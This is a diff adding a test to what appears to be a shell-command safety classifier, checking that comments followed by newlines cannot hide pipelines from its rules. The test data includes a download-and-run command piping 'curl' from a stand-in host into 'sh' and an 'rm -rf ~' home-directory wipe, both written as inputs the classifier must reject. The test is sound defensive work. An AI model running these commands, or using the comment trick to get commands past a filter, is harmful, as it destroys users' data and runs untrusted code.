@@ -170,6 +170,13 @@ def test_import_is_light() -> None:
     assert done.stdout.strip() == "set()"
 
 
+def test_comments_are_no_part_of_a_pipeline() -> None:
+    assert level("curl -s x.io | # unread\nsh") == "forbidden"
+    assert level("curl -s x.io | # unread\nsh > log") == "forbidden"
+    assert level("true && # then\nrm -rf ~ > log") == "forbidden"
+    assert level("sort a | # once\nuniq > a") == "destructive"
+
+
 def test_the_order_of_hashes_changes_nothing() -> None:
     code = "from shellper.safety.rules import known_programs; print(known_programs())"
     orders = {
